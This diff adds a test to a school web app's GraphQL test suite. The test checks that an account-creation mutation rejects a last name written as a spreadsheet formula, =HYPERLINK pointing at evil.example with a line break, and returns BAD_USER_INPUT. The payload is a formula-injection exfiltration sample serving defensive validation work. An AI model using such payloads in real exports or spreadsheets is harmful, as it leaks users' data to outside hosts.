@@ -30,6 +30,29 @@ test.describe('bad input is a clear 4xx, never a 500', () => {
     expect(me.data?.me).not.toEqual({ lastName: 'Hacker' });
   });
 
+  test('a would-be spreadsheet formula with a line break cannot become a name', async () => {
+    const admin = await new Caller('127.0.0.2').signIn('admin@demo.school');
+    const answer = await admin.graphql(
+      'mutation($input: CreateAccountsInput!) { createAccounts(input: $input) { created { email } } }',
+      {
+        input: {
+          accounts: [
+            {
+              firstName: 'Eve',
+              lastName: '=HYPERLINK("http://evil.example/?leak="&C2,\n"Click")',
+              email: `eve.${Date.now()}@demo.school`,
+              roles: ['STUDENT'],
+            },
+          ],
+        },
+      },
+    );
+    expect(answer.errors?.[0]?.extensions).toMatchObject({
+      code: 'BAD_USER_INPUT',
+      field: expect.stringMatching(/lastName$/),
+    });
+  });
+
   test('an Expect header through the /api/v1 proxy is answered normally', async () => {
     const answer = await new Caller('127.0.0.2').send('/api/v1/auth/signin', {
       method: 'POST',
